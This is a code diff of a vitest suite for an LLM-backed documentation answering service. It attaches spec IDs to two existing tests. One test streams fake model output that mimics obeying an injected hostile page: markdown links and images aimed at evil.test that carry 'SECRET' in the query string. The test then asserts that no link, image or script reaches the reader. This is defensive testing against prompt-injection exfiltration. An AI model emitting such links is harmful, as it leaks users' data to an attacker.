@@ -1,3 +1,4 @@
+import { verifies } from '@citewell/spec/verifies'
 import { describe, expect, test } from 'vitest'
 import { ask, askModel, BILLING, IDS, KEYS, LIMITS, STRANGE, world } from '../../../test/answering-world.ts'
 import { fakeLlm, type FakeBehaviour } from '../../../test/fake-llm.ts'
@@ -79,13 +80,17 @@ describe('with a model', () => {
     expect(last).toMatchObject({ covered: true, rewritten: undefined })
   })
 
-  test('it gets the excerpts between fences, with their versions, the voice, and the question', async () => {
-    const { calls } = await askModel(fakeLlm.says('Keys rotate daily [1].'))
-    const [system, user] = calls[0]?.body.messages ?? []
-    expect(system?.content).toContain('A patient engineer')
-    expect(user?.content).toContain('=====fence=====\n[1] Signing keys\nSection: Rotation\nVersion: v7')
-    expect(user?.content).toMatch(/=====fence=====\n\nQuestion: How often do signing keys rotate\?$/)
-  })
+  verifies(
+    'versions.with-every-excerpt',
+    'it gets the excerpts between fences, with their versions, the voice, and the question',
+    async () => {
+      const { calls } = await askModel(fakeLlm.says('Keys rotate daily [1].'))
+      const [system, user] = calls[0]?.body.messages ?? []
+      expect(system?.content).toContain('A patient engineer')
+      expect(user?.content).toContain('=====fence=====\n[1] Signing keys\nSection: Rotation\nVersion: v7')
+      expect(user?.content).toMatch(/=====fence=====\n\nQuestion: How often do signing keys rotate\?$/)
+    },
+  )
 
   test.for([
     ['NOT COVERED: The documentation says nothing about it.', 'The documentation says nothing about it.'],
@@ -127,18 +132,22 @@ describe('with a model', () => {
     expect(last).toMatchObject({ covered: false })
   })
 
-  test('a hostile page that it obeys gets no link, picture or script to the reader, at no moment', async () => {
-    const said = [
-      'Click [here',
-      '](https://evil.test/?q=',
-      'SECRET) ![x](https://evil.test/p',
-      ' "t") <img src=x> [a][b]\n\n[b]: htt',
-      'ps://evil.test\n',
-    ]
-    const { streamed, last } = await askModel(fakeLlm.says(...said))
-    expect(streamed).not.toMatch(/\]\(|<img|https:/)
-    expect(JSON.stringify(last)).not.toMatch(/\]\(|<img|https:\/\/evil/)
-  })
+  verifies(
+    'traps.persona-has-no-way-out',
+    'a hostile page that it obeys gets no link, picture or script to the reader, at no moment',
+    async () => {
+      const said = [
+        'Click [here',
+        '](https://evil.test/?q=',
+        'SECRET) ![x](https://evil.test/p',
+        ' "t") <img src=x> [a][b]\n\n[b]: htt',
+        'ps://evil.test\n',
+      ]
+      const { streamed, last } = await askModel(fakeLlm.says(...said))
+      expect(streamed).not.toMatch(/\]\(|<img|https:/)
+      expect(JSON.stringify(last)).not.toMatch(/\]\(|<img|https:\/\/evil/)
+    },
+  )
 })
 
 test('a follow-up is searched for with the subject of its conversation', async () => {
